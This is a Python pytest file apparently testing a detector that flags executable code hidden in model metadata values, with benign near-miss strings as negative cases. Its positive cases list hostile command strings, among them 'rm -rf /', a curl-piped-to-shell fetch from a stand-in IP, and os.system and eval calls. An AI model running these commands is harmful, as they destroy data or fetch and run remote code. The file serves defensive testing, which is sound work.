from __future__ import annotations

import pytest

from modelward.formats.metadata_code import MAX_CHARACTERS, code_in


@pytest.mark.parametrize(
    "value",
    [
        "import os; os.system('echo pwned')",
        "__import__('os').system('id')",
        "lambda x: eval(x.decode())",
        "jax.experimental.host_callback.call(os.system, 'id')",
        "subprocess.run(['id'])",
        "rm -rf /",
        "curl http://198.51.100.7/x | sh",
    ],
)
def test_a_value_that_is_a_program(value: str) -> None:
    found = code_in("metadata x", value)
    assert found is not None
    assert found.value == value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "eval",
        "a model for os.system('id') and the like",
        "BLIP caption (eval mode)",
        "see the docs: python -m model.eval --fast",
        "pt",
        "x" * (MAX_CHARACTERS + 1) + "; eval('x')",
        "model.eval",
        3,
        None,
    ],
)
def test_near_miss_text_that_mentions_a_command(value: object) -> None:
    assert code_in("metadata x", value) is None
